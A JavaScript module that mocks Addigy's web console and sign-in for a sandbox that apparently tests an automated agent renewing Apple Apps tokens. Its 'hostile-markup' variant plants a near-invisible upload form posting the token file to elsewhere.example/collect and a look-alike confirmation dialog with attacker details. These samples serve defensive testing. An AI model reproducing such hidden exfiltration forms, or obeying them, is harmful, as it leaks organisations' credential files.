// @ts-check
/**
 * The sandbox's Addigy web console (app.addigy.com) and hosted sign-in (login.addigy.com), modelled on
 * domain.md "Addigy's web console": a single-page app (addigy-console-app.js) with path routes, Bulma classes
 * plus build-hash attributes, and the page-internal endpoints its Renew, Save and Scan Now buttons call.
 * Renewing here is the only way the sandbox's world takes a new token file, as with the real Addigy.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { finishDueScans, startScan } from './addigy-api.mjs';
import { parseAppleDate, tokenStanding } from './world.mjs';

/** @typedef {import('./world.mjs').SandboxState} SandboxState */
/** @typedef {import('./faults.mjs').FaultState} FaultState */
/** @typedef {{ status: number, headers?: Record<string, string>, body?: unknown }} Reply */
/**
 * @typedef {'no-renew' | 'dialog-without-role' | 'drop-only' | 'cards' | 'refuse-identifier' | 'slow-confirmation' | 'hostile-markup' | 'unfamiliar' | 'late-input'} ConsoleVariant
 * @typedef {{
 *   at: number, locationId: string, policyId: string, fileName: string, text: string,
 *   stage: 'preview' | 'saved', accepted: boolean, via?: 'late-input',
 * }} ConsoleUpload
 * @typedef {{
 *   variants: Set<ConsoleVariant>, confirmationDelayMs: number, lateInputDelayMs: number,
 *   signedOut: boolean, sessions: Set<string>, uploads: ConsoleUpload[], refusals: Map<string, string>,
 * }} ConsoleState
 * `refusals`: the red-box error the console gives every file for one token, by Addigy locationId or Apple uId.
 */

export const CONSOLE_HOST = 'app.addigy.com';
export const LOGIN_HOST = 'login.addigy.com';
export const SESSION_COOKIE = 'addigy_session';
export const CONSOLE_VARIANTS = /** @type {const} */ (['no-renew', 'dialog-without-role', 'drop-only', 'cards', 'refuse-identifier', 'slow-confirmation', 'hostile-markup', 'unfamiliar', 'late-input']);
/** Where the hostile-markup variant's form posts: a host the sandbox does not serve. */
export const HOSTILE_FORM_ACTION = 'https://elsewhere.example/collect';
export const IDENTIFIER_MISMATCH_ERROR = 'Bad status response[400]: "The identifier of this token does not match the token you are renewing"';
export const SYNC_ERROR = 'Bad status response[400]: "Error syncing token"';
const INVALID_FILE_ERROR = 'Bad status response[400]: "Invalid token file"';

// A path, not a URL object: under happy-dom the global URL is not Node's.
const APP_SCRIPT = readFileSync(join(dirname(fileURLToPath(import.meta.url)), 'addigy-console-app.js'), 'utf8');
const APP_SCRIPT_PATH = '/js/app.3f9c1e2a.js';
const STYLESHEET_PATH = '/css/app.8b41d07e.css';
// The second layout (variant `unfamiliar`): another app at another path.
const UNFAMILIAR_APP_SCRIPT = readFileSync(join(dirname(fileURLToPath(import.meta.url)), 'addigy-console-unfamiliar-app.js'), 'utf8');
const UNFAMILIAR_SCRIPT_PATH = '/assets/index-7d2e9b41.js';
const UNFAMILIAR_STYLESHEET_PATH = '/assets/index-c05a1f93.css';
const DEFAULT_CONFIRMATION_DELAY_MS = 1500;
const DEFAULT_LATE_INPUT_DELAY_MS = 15_000;

/** Names the console shows for the seed's policies; other ids show as themselves. */
const POLICY_NAMES = /** @type {Record<string, string>} */ ({
  'pol-root': 'Acme Root Policy',
  'pol-child': 'Acme Warehouse Devices',
  'pol-schools': 'Springfield Schools',
});

/** @param {SandboxState} state @param {string} id */
const policyName = (state, id) => state.policyNames?.[id] ?? POLICY_NAMES[id] ?? id;

/** @returns {ConsoleState} */
export function createConsoleState() {
  return {
    variants: new Set(),
    confirmationDelayMs: DEFAULT_CONFIRMATION_DELAY_MS,
    lateInputDelayMs: DEFAULT_LATE_INPUT_DELAY_MS,
    signedOut: false,
    sessions: new Set(),
    uploads: [],
    refusals: new Map(),
  };
}

/** Back to the default: signed in, no variants, nothing uploaded. In place, like the other sandbox state. */
export function clearConsoleState(/** @type {ConsoleState} */ consoleState) {
  consoleState.variants.clear();
  consoleState.confirmationDelayMs = DEFAULT_CONFIRMATION_DELAY_MS;
  consoleState.lateInputDelayMs = DEFAULT_LATE_INPUT_DELAY_MS;
  consoleState.signedOut = false;
  consoleState.sessions.clear();
  consoleState.uploads.length = 0;
  consoleState.refusals.clear();
}

/**
 * @param {{ state: SandboxState, faults: FaultState, console: ConsoleState }} context
 * @param {{ host: string, method: string, url: URL, headers: Record<string, string | string[] | undefined>, body: string }} request
 * @returns {Reply}
 */
export function handleAddigyConsole(context, request) {
  return request.host === LOGIN_HOST ? handleLogin(context.console, request) : handleApp(context, request);
}

/**
 * @param {{ state: SandboxState, faults: FaultState, console: ConsoleState }} context
 * @param {{ method: string, url: URL, headers: Record<string, string | string[] | undefined>, body: string }} request
 * @returns {Reply}
 */
function handleApp({ state, faults, console: consoleState }, { method, url, headers, body }) {
  const path = url.pathname;
  if (path === APP_SCRIPT_PATH) return { status: 200, headers: { 'content-type': 'text/javascript; charset=utf-8' }, body: APP_SCRIPT };
  if (path === STYLESHEET_PATH) return { status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body: stylesheet() };
  if (path === UNFAMILIAR_SCRIPT_PATH) return { status: 200, headers: { 'content-type': 'text/javascript; charset=utf-8' }, body: UNFAMILIAR_APP_SCRIPT };
  if (path === UNFAMILIAR_STYLESHEET_PATH) return { status: 200, headers: { 'content-type': 'text/css; charset=utf-8' }, body: unfamiliarStylesheet() };
  if (path === '/favicon.ico') return { status: 204 };
  const signedIn = !consoleState.signedOut || consoleState.sessions.has(cookieOf(headers, SESSION_COOKIE) ?? '');
  if (path.startsWith('/sandbox-console/api/')) {
    if (!signedIn) return json(401, { error: 'Not signed in' });
    return consoleApi(state, faults, consoleState, method, path.slice('/sandbox-console/api'.length), body);
  }
  if (method !== 'GET') return { status: 405, headers: { 'content-type': 'text/plain' }, body: 'Method Not Allowed' };
  if (!signedIn) {
    const returnTo = `https://${CONSOLE_HOST}${url.pathname}${url.search}`;
    return { status: 302, headers: { location: `https://${LOGIN_HOST}/?return_to=${encodeURIComponent(returnTo)}`, 'cache-control': 'no-store' } };
  }
  // Every other path is the SPA: history routes reload to it.
  const unfamiliar = consoleState.variants.has('unfamiliar');
  const page = html(unfamiliar ? unfamiliarAppPage(consoleState) : appPage(consoleState));
  // Markup only: the page's own script still runs, no other script could.
  if (unfamiliar || consoleState.variants.has('hostile-markup')) page.headers = { ...page.headers, 'content-security-policy': "script-src 'self'" };
  return page;
}

/**
 * @param {SandboxState} state @param {FaultState} faults @param {ConsoleState} consoleState
 * @param {string} method @param {string} route @param {string} rawBody
 * @returns {Reply}
 */
function consoleApi(state, faults, consoleState, method, route, rawBody) {
  const now = Date.now();
  if (method === 'GET' && route === '/policies') {
    const ids = [...new Set(state.addigyTokens.map((token) => token.policyId))];
    return json(200, ids.map((id) => ({ id, name: policyName(state, id) })));
  }
  const policy = route.match(/^\/policies\/([^/]+)\/apple-apps$/);
  if (method === 'GET' && policy) {
    const id = decodeSegment(policy[1] ?? '');
    finishDueScans(state, faults, now);
    const tokens = state.addigyTokens
      .filter((token) => token.policyId === id)
      .map((token) => ({
        locationId: token.locationId,
        locationName: token.clientConfig.locationName,
        orgName: token.orgName,
        expDate: token.expDate,
        lastSync: token.lastSync,
        syncing: token.syncing,
        lastSyncingStatus: token.lastSyncingStatus,
        inheritedFrom: token.inheritedFrom,
      }));
    return json(200, { policy: { id, name: policyName(state, id) }, tokens });
  }
  if (method === 'GET' && route === '/events') return json(200, structuredClone(state.systemEvents));
  if (method !== 'POST') return json(404, { error: 'not found' });

  /** @type {any} */
  let body;
  try {
    body = JSON.parse(rawBody || '{}');
  } catch {
    return json(400, { error: 'Bad status response[400]: "Bad request"' });
  }
  // The late-input variant's stray file input: whatever reaches it is recorded and goes no further.
  if (body?.via === 'late-input') {
    consoleState.uploads.push({
      at: now, locationId: '', policyId: '', fileName: typeof body?.fileName === 'string' ? body.fileName : '',
      text: typeof body?.token === 'string' ? body.token.trim() : '', stage: 'preview', accepted: false, via: 'late-input',
    });
    return json(400, { error: INVALID_FILE_ERROR });
  }
  const locationId = typeof body?.locationId === 'string' ? body.locationId : '';
  const copies = state.addigyTokens.filter((token) => token.locationId === locationId);
  const root = copies.find((token) => !token.inheritedFrom) ?? copies[0];
  if (!root) return json(404, { error: 'Bad status response[404]: "Apps and Books token not found"' });

  if (route === '/scan') {
    const standing = root.tokenText ? tokenStanding(state, root.tokenText, now) : { kind: 'unknown' };
    if (standing.kind !== 'valid') return json(400, { error: SYNC_ERROR });
    startScan(state, faults, locationId, now);
    return json(200, { scanning: true });
  }
  if (route !== '/renew/preview' && route !== '/renew') return json(404, { error: 'not found' });

  const stage = route === '/renew' ? 'saved' : 'preview';
  const text = typeof body?.token === 'string' ? body.token.trim() : '';
  /** @type {ConsoleUpload} */
  const upload = {
    at: now,
    locationId,
    policyId: typeof body?.policyId === 'string' ? body.policyId : '',
    fileName: typeof body?.fileName === 'string' ? body.fileName : '',
    text,
    stage,
    accepted: false,
  };
  consoleState.uploads.push(upload);
  const standing = tokenStanding(state, text, now);
  const refusal = renewalRefusal(consoleState, root, standing);
  if (refusal || standing.kind === 'unknown') return json(400, { error: refusal ?? INVALID_FILE_ERROR });
  upload.accepted = true;
  if (stage === 'preview') {
    return json(200, { idNumber: root.idNumber, name: standing.location.locationName, appleId: root.appleId, organization: standing.orgName });
  }
  // Renewing one copy renews every policy that uses the token; then Addigy rescans.
  const expires = new Date(parseAppleDate(standing.record.expDate)).toISOString();
  for (const token of copies) {
    token.tokenText = text;
    token.expDate = expires;
    token.clientConfig.tokenExpirationDate = expires;
    token.clientConfig.locationName = standing.location.locationName;
    token.version = typeof token.version === 'number' ? token.version + 1 : String((Number(token.version) || 0) + 1);
    token.active = true;
    token.errMsg = null;
  }
  startScan(state, faults, locationId, now);
  return json(200, { saved: true });
}

/**
 * Addigy's words for a file it will not take, or null.
 * @param {ConsoleState} consoleState @param {import('./world.mjs').AddigyToken} root @param {ReturnType<typeof tokenStanding>} standing
 */
function renewalRefusal(consoleState, root, standing) {
  if (consoleState.variants.has('refuse-identifier')) return IDENTIFIER_MISMATCH_ERROR;
  const refusal = consoleState.refusals.get(root.locationId) ?? consoleState.refusals.get(root.clientConfig.uId);
  if (refusal) return refusal;
  if (standing.kind === 'unknown') return INVALID_FILE_ERROR;
  if (standing.kind !== 'valid') return SYNC_ERROR;
  if (standing.location.uId !== root.clientConfig.uId) return IDENTIFIER_MISMATCH_ERROR;
  return null;
}

/**
 * login.addigy.com: a sign-in form; its POST sets the session cookie for addigy.com and returns to the console.
 * @param {ConsoleState} consoleState
 * @param {{ method: string, url: URL, body: string }} request
 * @returns {Reply}
 */
function handleLogin(consoleState, { method, url, body }) {
  if (url.pathname === '/favicon.ico') return { status: 204 };
  if (method === 'GET') return html(loginPage(url.searchParams.get('return_to') ?? '', ''));
  if (method !== 'POST') return { status: 405, headers: { 'content-type': 'text/plain' }, body: 'Method Not Allowed' };
  const form = new URLSearchParams(body);
  const returnTo = form.get('return_to') ?? '';
  if (!form.get('email')?.trim() || !form.get('password')) return html(loginPage(returnTo, 'Enter your email and password.'));
  const session = randomBytes(18).toString('base64url');
  consoleState.sessions.add(session);
  return {
    status: 302,
    headers: {
      location: safeReturnTo(returnTo),
      'set-cookie': `${SESSION_COOKIE}=${session}; Domain=addigy.com; Path=/; Secure; HttpOnly; SameSite=Lax`,
      'cache-control': 'no-store',
    },
  };
}

/** Only back into the console: anything else goes to its start page. */
function safeReturnTo(/** @type {string} */ returnTo) {
  try {
    const url = new URL(returnTo);
    if (url.origin === `https://${CONSOLE_HOST}`) return url.href;
  } catch {
    // Not a URL: the default below.
  }
  return `https://${CONSOLE_HOST}/policies`;
}

/** @param {Record<string, string | string[] | undefined>} headers @param {string} name */
function cookieOf(headers, name) {
  const header = [headers.cookie ?? []].flat().join('; ');
  for (const part of header.split(';')) {
    const [key, ...value] = part.trim().split('=');
    if (key === name) return value.join('=');
  }
  return undefined;
}

function decodeSegment(/** @type {string} */ segment) {
  try {
    return decodeURIComponent(segment);
  } catch {
    return '';
  }
}

/** @param {number} status @param {unknown} body @returns {Reply} */
function json(status, body) {
  return { status, headers: { 'content-type': 'application/json', 'cache-control': 'no-store' }, body };
}

/** @param {string} body @returns {Reply} */
function html(body) {
  return { status: 200, headers: { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }, body };
}

/** @param {string} text */
function escapeHtml(text) {
  const entities = /** @type {Record<string, string>} */ ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' });
  return text.replace(/[&<>"']/g, (char) => entities[char] ?? char);
}

/** @param {ConsoleState} consoleState */
function appPage(consoleState) {
  const config = {
    variants: [...consoleState.variants],
    confirmationDelayMs: consoleState.variants.has('slow-confirmation') ? consoleState.confirmationDelayMs : 0,
    user: { name: 'Sam Admin', email: 'sam.admin@acme.example' },
  };
  // `<` escaped so the JSON cannot close its script element.
  const configJson = JSON.stringify(config).replace(/</g, '\\u003c');
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Addigy</title>
<link rel="stylesheet" href="${STYLESHEET_PATH}">
</head>
<body>
${consoleState.variants.has('hostile-markup') ? HOSTILE_MARKUP : ''}<div id="app"></div>
<script id="__console_config__" type="application/json">${configJson}</script>
<script src="${APP_SCRIPT_PATH}"></script>
</body>
</html>
`;
}

/**
 * The second layout's shell (variant `unfamiliar`): another root element, another config element, another script.
 * @param {ConsoleState} consoleState
 */
function unfamiliarAppPage(consoleState) {
  const boot = {
    variants: [...consoleState.variants],
    lateInputDelayMs: consoleState.lateInputDelayMs,
    user: { name: 'Sam Admin', email: 'sam.admin@acme.example' },
  };
  const bootJson = JSON.stringify(boot).replace(/</g, '\\u003c');
  return `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Addigy</title>
<link rel="stylesheet" href="${UNFAMILIAR_STYLESHEET_PATH}">
</head>
<body>
<div id="root"></div>
<script id="__boot__" type="application/json">${bootJson}</script>
<script src="${UNFAMILIAR_SCRIPT_PATH}"></script>
</body>
</html>
`;
}

function unfamiliarStylesheet() {
  return `
*,*::before,*::after{box-sizing:border-box}
body{margin:0;font:15px/1.55 system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;color:#222;background:#fafafa}
.topbar{display:flex;gap:18px;align-items:center;background:#0b3d2e;color:#fff;padding:10px 20px}
.topbar .link{color:#d5f5e3}.brand{font-weight:700}.who{margin-left:auto}
.view{max-width:920px;margin:24px auto;padding:0 20px}
.title{margin:0 0 12px}.title.is-4{font-size:24px}.title.is-5{font-size:19px}
.box{background:#fff;border:1px solid #e3e3e3;border-radius:8px;padding:14px 18px;margin-bottom:12px}
.plain{list-style:none;padding-left:18px}.plain li{padding:4px 0}
.link{color:#0a66c2;cursor:pointer}
.pills{display:flex;gap:8px;margin:10px 0 16px}
.pill{padding:4px 12px;border-radius:999px;background:#eee;color:#333;text-decoration:none}
.pill.is-current{background:#0b3d2e;color:#fff}
.entry-title{font-size:17px}.actions .link{margin-right:14px}
.replace-form,.review{margin-top:10px;padding:12px;border:1px dashed #9bb;border-radius:6px;background:#f6fbfb}
.file-input{display:block;margin:8px 0}
.button{font:inherit;padding:5px 14px;border-radius:5px;border:1px solid #bbb;background:#fff;cursor:pointer}
.button.is-link{background:#0a66c2;border-color:#0a66c2;color:#fff}
.pairs{display:grid;grid-template-columns:max-content 1fr;gap:4px 16px}.pairs dt{font-weight:600}.pairs dd{margin:0}
.notification{padding:10px 14px;border-radius:5px;margin:8px 0}
.notification.is-danger{background:#feecf0;color:#cc0f35}.notification.is-success{background:#effaf5;color:#257953}
.late-upload{position:fixed;right:16px;top:64px;width:220px}
`;
}

/**
 * Issue 19, finding 1: markup before the app's root, no script. A hidden upload window inside a form that posts the
 * file to another origin, and a look-alike confirmation window with other values.
 */
const HOSTILE_MARKUP = `<form id="hostile-form" action="${HOSTILE_FORM_ACTION}" method="post" enctype="multipart/form-data">
<div role="dialog" aria-modal="true" aria-label="Renew Apple Apps token" style="position:fixed;left:0;bottom:0;width:300px;height:120px;opacity:.01">
<p>Drop your .vpptoken file here or click to browse</p>
<input id="hostile-input" type="file" name="token"><button id="hostile-save">Save</button><button type="button">Cancel</button>
</div></form>
<div role="dialog" aria-modal="true" aria-label="Confirm Apple Apps token" style="position:fixed;right:0;bottom:0;width:300px;height:160px;opacity:.01">
<dl><dt>ID Number</dt><dd>9999999</dd><dt>Name</dt><dd>Someone Else</dd><dt>Apple ID</dt><dd>attacker@elsewhere.example</dd><dt>Organization</dt><dd>Elsewhere Ltd</dd></dl>
<button id="hostile-confirm-save" type="button">Save</button><button type="button">Cancel</button>
</div>
`;

/** @param {string} returnTo @param {string} error */
function loginPage(returnTo, error) {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Sign in · Addigy</title><link rel="stylesheet" href="https://${CONSOLE_HOST}${STYLESHEET_PATH}"></head>
<body>
<main class="section" data-v-1e7a9c02>
  <div class="box login-box" data-v-1e7a9c02>
    <h1 class="title is-4" data-v-1e7a9c02>Sign in to Addigy</h1>
    ${error ? `<div class="notification is-danger" role="alert" data-v-1e7a9c02>${escapeHtml(error)}</div>` : ''}
    <form method="post" action="/" data-v-1e7a9c02>
      <input type="hidden" name="return_to" value="${escapeHtml(returnTo)}">
      <div class="field" data-v-1e7a9c02><label class="label" for="email" data-v-1e7a9c02>Email</label>
        <input id="email" class="input" type="email" name="email" autocomplete="username" data-v-1e7a9c02></div>
      <div class="field" data-v-1e7a9c02><label class="label" for="password" data-v-1e7a9c02>Password</label>
        <input id="password" class="input" type="password" name="password" autocomplete="current-password" data-v-1e7a9c02></div>
      <button class="button is-primary" type="submit" data-v-1e7a9c02>Sign in</button>
    </form>
  </div>
</main>
</body>
</html>
`;
}

function stylesheet() {
  return `
*,*::before,*::after{box-sizing:border-box}
body{margin:0;font:14px/1.5 BlinkMacSystemFont,-apple-system,"Segoe UI",Roboto,Helvetica,Arial,sans-serif;color:#363636;background:#f5f6fa}
.navbar{display:flex;gap:4px;align-items:center;background:#1f2d3d;padding:0 16px;min-height:52px}
.navbar-item{color:#dfe6ee;padding:8px 12px;text-decoration:none;border-radius:4px}
.navbar-item.is-active,.navbar-item:hover{background:#2c3e50;color:#fff}
.navbar-brand{font-weight:700;color:#fff;margin-right:16px}
.section{padding:24px 32px}
.title{font-weight:600;margin:0 0 16px}
.title.is-4{font-size:22px}.title.is-5{font-size:18px}.title.is-6{font-size:15px;margin-bottom:6px}
.box{background:#fff;border-radius:6px;box-shadow:0 1px 3px rgba(10,10,10,.1);padding:20px}
.login-box{max-width:380px;margin:60px auto}
.tabs ul{display:flex;list-style:none;margin:0 0 16px;padding:0;border-bottom:1px solid #dbdbdb}
.tabs a{display:block;padding:8px 16px;color:#4a4a4a;text-decoration:none;border:1px solid transparent;border-bottom:none;cursor:pointer}
.tabs li.is-active a{color:#3273dc;border-color:#dbdbdb;background:#fff;border-radius:4px 4px 0 0;margin-bottom:-1px}
.columns{display:flex;gap:24px}.column{flex:1}.column.is-3{flex:none;width:220px}
.menu-label{font-size:11px;text-transform:uppercase;letter-spacing:.08em;color:#7a7a7a;margin:0 0 8px}
.menu-list{list-style:none;margin:0;padding:0}
.menu-list a{display:block;padding:6px 10px;border-radius:4px;color:#4a4a4a;text-decoration:none;cursor:pointer}
.menu-list a.is-active{background:#3273dc;color:#fff}
.table{width:100%;border-collapse:collapse;background:#fff}
.table th,.table td{padding:8px 10px;border-bottom:1px solid #ededed;text-align:left;vertical-align:middle}
.table th{font-size:12px;color:#7a7a7a}
.button{font:inherit;border:1px solid #dbdbdb;background:#fff;border-radius:4px;padding:5px 12px;cursor:pointer;margin-right:6px}
.button.is-primary{background:#3273dc;border-color:#3273dc;color:#fff}
.button.is-small{font-size:12px;padding:3px 10px}
.button[disabled]{opacity:.5;cursor:not-allowed}
.notification{border-radius:4px;padding:14px 36px 14px 18px;margin:12px 0;position:relative}
.notification.is-danger{background:#f14668;color:#fff}
.notification.is-success{background:#48c78e;color:#fff}
.delete{position:absolute;right:8px;top:8px;border:none;background:rgba(10,10,10,.2);border-radius:50%;width:20px;height:20px;cursor:pointer;color:#fff;font-size:14px;line-height:20px;padding:0}
.delete::before{content:"\\00d7"}
.tag{display:inline-block;border-radius:4px;padding:1px 8px;font-size:12px;background:#f5f5f5}
.tag.is-warning{background:#ffe08a}.tag.is-success{background:#effaf5;color:#257953}.tag.is-danger{background:#feecf0;color:#cc0f35}
.cards{display:grid;grid-template-columns:repeat(auto-fill,minmax(260px,1fr));gap:12px}
.card{background:#fff;border-radius:6px;box-shadow:0 1px 3px rgba(10,10,10,.1)}
.card-content{padding:14px 16px}.card-footer{display:flex;border-top:1px solid #ededed}
.card-footer-item{flex:1;text-align:center;padding:8px;cursor:pointer;color:#3273dc;text-decoration:none}
.modal{position:fixed;inset:0;display:none;align-items:center;justify-content:center;z-index:40}
.modal.is-active{display:flex}
.modal-background{position:absolute;inset:0;background:rgba(10,10,10,.6)}
.modal-card{position:relative;background:#fff;border-radius:6px;width:520px;max-width:95vw;overflow:hidden}
.modal-card-head,.modal-card-foot{display:flex;align-items:center;padding:14px 18px;background:#f5f5f5}
.modal-card-title{flex:1;font-size:18px;margin:0}
.modal-card-head .delete{position:static}
.modal-card-body{padding:18px}
.dropzone{border:2px dashed #b5b5b5;border-radius:6px;padding:28px;text-align:center;color:#7a7a7a;cursor:pointer}
.dropzone.is-dragover{border-color:#3273dc;background:#eef3fc}
.field{margin-bottom:12px}.label{display:block;font-weight:600;margin-bottom:4px}
.input{font:inherit;width:100%;padding:6px 10px;border:1px solid #dbdbdb;border-radius:4px}
`;
}
